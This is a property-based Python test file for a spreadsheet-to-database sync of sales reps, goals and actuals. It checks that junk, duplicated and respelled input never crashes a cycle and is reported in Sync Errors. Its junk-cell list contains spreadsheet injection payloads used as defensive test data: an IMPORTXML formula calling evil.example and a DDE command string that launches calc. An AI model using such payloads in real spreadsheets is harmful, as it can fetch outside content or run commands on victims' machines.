"""Bad input at scale, through whole cycles on a real database.

Hypothesis builds whole input tabs: headers in any order and spelling, extra
columns, blank rows, good rows mixed with junk rows (random text, unicode,
huge and negative numbers, formulas as text, spreadsheet errors, booleans) and
duplicated keys. Every cycle must finish (``success`` or ``partial``, never a
crash), every good row must land in the database with its values, every
duplicated key must be rejected, and Sync Errors must list every problem.

The spreadsheet is an in-memory ``SpreadsheetBackend``: the cycle, the parser,
the store and the output tables are the real ones.
"""

from __future__ import annotations

import csv
import itertools
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from models.settings import Settings
from models.store import Store
from sheets.cells import SPREADSHEET_ERRORS, is_error_text, key_text
from sync.clock import parse_now
from sync.cycle import run_cycle
from tests.faults.support import MemoryBackend, query
from tests.profiles import scaled

NOW = "2026-11-03T09:00"
HEADERS = {
    "Reps": ["Email", "Name", "Team", "Title", "Active", "Monthly Signup Goal", "Yearly Signup Goal"],
    "Monthly Goals": ["Email", "Year", "Month", "Signup Goal", "Revenue Goal", "Bonus Tier Goal"],
    "Actuals": ["Email", "Year", "Month", "Signups", "Revenue"],
}
_examples = itertools.count(1)

# --- cells ---------------------------------------------------------------------

text = st.text(alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30)
junk_cell = st.one_of(
    st.none(),
    text,
    st.booleans(),
    st.integers(min_value=-(10**20), max_value=10**20),
    st.floats(allow_nan=False, allow_infinity=False),
    st.sampled_from(SPREADSHEET_ERRORS),
    text.map(lambda t: "=" + t),
    st.sampled_from(["", "   ", "N/A", "—", "1,2,3", "1e400", "Nov 2026", "(12)", "−5", "12,5", "١٢", "TRUE",
                     "=IMPORTXML(\"http://evil.example\",\"//a\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]),
)
# Names and teams a person might really type, formulas and far-away scripts included.
name_text = st.one_of(
    # at least one visible character: a name of only invisible ones (U+200B) is blank
    # (a spreadsheet error such as #BLOCKED! is no name: the parser rightly rejects it, and
    # hypothesis draws the product's own constants, so it does turn up)
    st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Zs", "Zl", "Zp")), min_size=1,
            max_size=25).filter(lambda t: key_text(t) != "" and not is_error_text(t)),
    st.sampled_from(["=1+2", "+SUM(A1:A9)", "-3", "@here", "Zoë 李", "O'Brien", "Ñandú", "🚀 Rocket", "\u202eevil"]),
)


def header_variant(draw: st.DrawFn, header: str) -> str:
    """The same header as a person might type it (SPEC: case, spaces, _ and - are ignored)."""
    style = draw(st.sampled_from(["as is", "upper", "lower", "snake", "padded", "dashed"]))
    return {"as is": header, "upper": header.upper(), "lower": header.lower(),
            "snake": header.lower().replace(" ", "_"), "padded": f"  {header} ",
            "dashed": header.replace(" ", " - ")}[style]


def money_cell(draw: st.DrawFn, cents: int) -> Any:
    """``cents`` as a cell in one of the accepted spellings."""
    value = Decimal(cents) / 100
    spelling = draw(st.sampled_from(["number", "text", "dollars", "spaced"]))
    if spelling == "number":
        return float(value) if cents % 100 else int(value)
    if spelling == "text":
        return str(value)
    if spelling == "dollars":
        return f"${value:,.2f}"
    return f"  {value} "


def count_cell(draw: st.DrawFn, tenths: int) -> Any:
    value = Decimal(tenths) / 10
    return draw(st.sampled_from([float(value), str(value)])) if tenths % 10 else draw(
        st.sampled_from([int(value), float(value), str(int(value)), f" {int(value):,} "]))


# --- whole tabs -------------------------------------------------------------------

@dataclass
class Expected:
    """What the database must hold after the cycle."""

    reps: dict[str, tuple[str, int]] = field(default_factory=dict)
    """email → (name, monthly signup goal)"""
    goals: dict[tuple[str, int, int], tuple[int, Decimal, int]] = field(default_factory=dict)
    """(email, year, month) → (signup goal, revenue goal, bonus tier goal)"""
    actuals: dict[tuple[str, int, int], tuple[Decimal, Decimal]] = field(default_factory=dict)
    duplicated: set[str] = field(default_factory=set)
    """Reps whose every Actuals row repeats a key: nothing may be stored for them."""


@dataclass
class Case:
    grids: dict[str, list[list[Any]]]
    expected: Expected


def _layout(draw: st.DrawFn, tab: str) -> tuple[list[Any], list[int]]:
    """A header row (shuffled, respelled, with extra columns) and where each SPEC column went."""
    columns = list(HEADERS[tab])
    extras = draw(st.lists(text.map(lambda t: f"Note: {t}"), max_size=2))
    order = draw(st.permutations(columns + extras))
    header = [header_variant(draw, h) if h in columns else h for h in order]
    return header, [order.index(h) for h in columns]


def _place(width: int, positions: list[int], values: list[Any], draw: st.DrawFn) -> list[Any]:
    row: list[Any] = [draw(junk_cell) for _ in range(width)]  # extra columns hold anything
    for position, value in zip(positions, values, strict=True):
        row[position] = value
    return row


def _mix(draw: st.DrawFn, header: list[Any], rows: list[list[Any]], width: int) -> list[list[Any]]:
    """Header after some blank rows; the rows shuffled with junk and blank rows; ragged ends."""
    junk = draw(st.lists(st.lists(junk_cell, min_size=width, max_size=width), max_size=6))
    blanks: list[list[Any]] = [[None] * width for _ in range(draw(st.integers(0, 2)))]
    body = draw(st.permutations(rows + junk + blanks))
    grid = [[] for _ in range(draw(st.integers(0, 2)))] + [header] + list(body)
    return [row[:max((i + 1 for i, v in enumerate(row) if v is not None), default=0)] for row in grid]


@st.composite
def cases(draw: st.DrawFn) -> Case:
    n = next(_examples)
    expected = Expected()
    good = [f"good{n}.{i}@example.com" for i in range(draw(st.integers(1, 5)))]
    duplicated = f"dup{n}@example.com"

    reps_header, reps_at = _layout(draw, "Reps")
    reps_rows = []
    for email in [*good, duplicated]:
        name, goal = draw(name_text), draw(st.integers(0, 100_000))
        email_cell = draw(st.sampled_from([email, email.upper(), f"  {email} "]))
        active = draw(st.sampled_from([True, "yes", "Y", 1, None, "TRUE"]))
        values = [email_cell, name, draw(name_text), draw(name_text), active, goal, draw(st.integers(0, 1000))]
        reps_rows.append(_place(len(reps_header), reps_at, values, draw))
        expected.reps[email] = (name.strip(), goal)

    goals_header, goals_at = _layout(draw, "Monthly Goals")
    goal_rows = []
    actuals_header, actuals_at = _layout(draw, "Actuals")
    actual_rows = []
    for email in good:
        months = draw(st.lists(st.tuples(st.integers(2024, 2026), st.integers(1, 12)), max_size=3, unique=True))
        for year, month in months:
            signup_goal, cents, tier = draw(st.integers(0, 100_000)), draw(st.integers(0, 10**11)), draw(
                st.integers(0, 6))
            month_cell = draw(st.sampled_from([month, str(month), f"{month:02d}", float(month)]))
            goal_rows.append(_place(len(goals_header), goals_at,
                                    [email, year, month_cell, signup_goal, money_cell(draw, cents), tier], draw))
            expected.goals[(email, year, month)] = (signup_goal, Decimal(cents) / 100, tier)
            if draw(st.booleans()):
                tenths = draw(st.integers(0, 1_000_000)) // 5 * 5  # whole or half credit
                revenue = draw(st.integers(0, 10**11))
                actual_rows.append(_place(len(actuals_header), actuals_at,
                                          [email, year, month, count_cell(draw, tenths), money_cell(draw, revenue)],
                                          draw))
                expected.actuals[(email, year, month)] = (Decimal(tenths) / 10, Decimal(revenue) / 100)
    for signups in (3, 4):  # the same key twice: both rows are rejected
        actual_rows.append(_place(len(actuals_header), actuals_at, [duplicated, 2026, 11, signups, 100], draw))
    expected.duplicated.add(duplicated)

    return Case({
        "Reps": _mix(draw, reps_header, reps_rows, len(reps_header)),
        "Monthly Goals": _mix(draw, goals_header, goal_rows, len(goals_header)),
        "Actuals": _mix(draw, actuals_header, actual_rows, len(actuals_header)),
    }, expected)


# --- the properties -----------------------------------------------------------------

@pytest.fixture
def cycle_on_db(settings_factory: Callable[..., Settings],
                fresh_db_url: str) -> Iterator[Callable[[dict[str, Any]], Any]]:
    """``run(grids) -> CycleResult`` on one committed database (examples add up in it)."""
    config = settings_factory(database={"url": fresh_db_url})
    store = Store.open(config)
    now = parse_now(NOW, config.tz)

    def run(grids: dict[str, Any]) -> Any:
        backend = MemoryBackend(grids)
        result = run_cycle(config, store, backend, now)
        return result, backend

    yield run
    store.dispose()


def _stored(url: str, emails: list[str]) -> dict[str, Any]:
    reps = {e: (n, g) for e, n, g in query(url, "SELECT email, name, monthly_signup_goal FROM sales_reps "
                                                "WHERE email = ANY(%s)", (emails,))}
    months = query(url, """
        SELECT r.email, g.goal_year, g.goal_month, g.signup_goal, g.revenue_goal, g.bonus_tier_goal,
               g.signups_actual, g.revenue_actual
        FROM rep_monthly_goals g JOIN sales_reps r ON r.id = g.sales_rep_id WHERE r.email = ANY(%s)
    """, (emails,))
    return {"reps": reps, "months": {(e, y, m): rest for e, y, m, *rest in months}}


@settings(max_examples=scaled(30), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow, HealthCheck.data_too_large])
@given(case=cases())
def test_any_tabs_never_crash_a_cycle_and_every_good_row_lands(case: Case, cycle_on_db: Callable[..., Any],
                                                                fresh_db_url: str) -> None:
    result, backend = cycle_on_db(case.grids)

    assert result.status in ("success", "partial"), result.error
    expected = case.expected
    stored = _stored(fresh_db_url, list(expected.reps))
    for email, (name, goal) in expected.reps.items():
        assert stored["reps"].get(email) == (name, goal), email
    for key, (signup_goal, revenue_goal, tier) in expected.goals.items():
        row = stored["months"].get(key)
        assert row is not None and tuple(row[:3]) == (signup_goal, revenue_goal, tier), (key, row)
    for key, (signups, revenue) in expected.actuals.items():
        assert tuple(stored["months"][key][3:]) == (signups, revenue), key
    for email in expected.duplicated:
        row = stored["months"].get((email, 2026, 11))
        assert row is None or row[3] == 0, "a duplicated key was stored"
        assert any(p.email == email and p.tab == "Actuals" for p in result.problems)
    errors = backend.written["Sync Errors"].table
    assert len(errors.rows) == len(result.problems)
    # Formula-looking names reach the Summary as the text they are.
    summary_names = {row[0] for row in backend.written["Summary"].table.rows}
    assert {name for name, _ in expected.reps.values()} <= summary_names


chaos_grid = st.lists(st.lists(junk_cell, max_size=8), max_size=12)


@settings(max_examples=scaled(10), deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                  HealthCheck.too_slow])
@given(grids=st.fixed_dictionaries({tab: st.one_of(st.none(), chaos_grid)
                                    for tab in ("Reps", "Monthly Goals", "Yearly Goals", "Actuals")}))
def test_tabs_of_pure_noise_are_reported_not_fatal(grids: dict[str, Any], cycle_on_db: Callable[..., Any]) -> None:
    result, backend = cycle_on_db({k: v for k, v in grids.items() if v is not None})

    assert result.status in ("success", "partial"), result.error
    errors = backend.written.get("Sync Errors")
    if errors is not None:  # written when the problems changed since the previous example
        assert len(errors.table.rows) == len(result.problems)


# --- the checked-in corpus, through a whole cycle ------------------------------------

CORPUS = Path(__file__).resolve().parents[1] / "sheets" / "corpus" / "cells.csv"
_AS_CELL = {"str": lambda raw: raw, "int": int, "float": float, "bool": lambda raw: raw.upper() == "TRUE",
            "none": lambda raw: None}


def test_the_messy_cell_corpus_through_one_cycle(cycle_on_db: Callable[..., Any], fresh_db_url: str) -> None:
    """Every signups and revenue cell of tests/sheets/corpus/cells.csv on its own Actuals row:
    the accepted ones are stored with the expected value, each rejected one is reported at
    its own cell and its row keeps the stored value (0 for a new month)."""
    with CORPUS.open(encoding="utf-8", newline="") as handle:
        corpus = [row for row in csv.DictReader(handle) if row["field"] in ("signups", "revenue")]
    assert len(corpus) >= 10
    reps = [["Email", "Name"]] + [[f"corpus{i}@example.com", f"Corpus {i}"] for i in range(len(corpus))]
    actuals: list[list[Any]] = [["Email", "Year", "Month", "Signups", "Revenue"]]
    for i, entry in enumerate(corpus):
        cell = _AS_CELL[entry["type"]](entry["raw"])
        signups, revenue = (cell, 1) if entry["field"] == "signups" else (1, cell)
        actuals.append([f"corpus{i}@example.com", 2026, 11, signups, revenue])

    result, backend = cycle_on_db({"Reps": reps, "Actuals": actuals})

    assert result.status in ("success", "partial")
    stored = _stored(fresh_db_url, [f"corpus{i}@example.com" for i in range(len(corpus))])["months"]
    reported = {p.cell: p.problem for p in result.problems}
    for i, entry in enumerate(corpus):
        email, column = f"corpus{i}@example.com", "D" if entry["field"] == "signups" else "E"
        row = stored[(email, 2026, 11)]
        value = row[3] if entry["field"] == "signups" else row[4]
        where = f"Actuals!{column}{i + 2}"
        if entry["expected"].startswith("reject:"):
            assert where in reported, f"{entry['note']}: {entry['raw']!r} was not reported"
            assert value == 0, f"{entry['note']}: a rejected cell changed the stored value"
        else:
            assert where not in reported, f"{entry['note']}: {entry['raw']!r} was rejected: {reported.get(where)}"
            want = Decimal(entry["expected"]) if entry["expected"] else Decimal(0)
            assert value == want, f"{entry['note']}: {entry['raw']!r} stored as {value}, expected {want}"
    assert len(backend.written["Sync Errors"].table.rows) == len(result.problems)
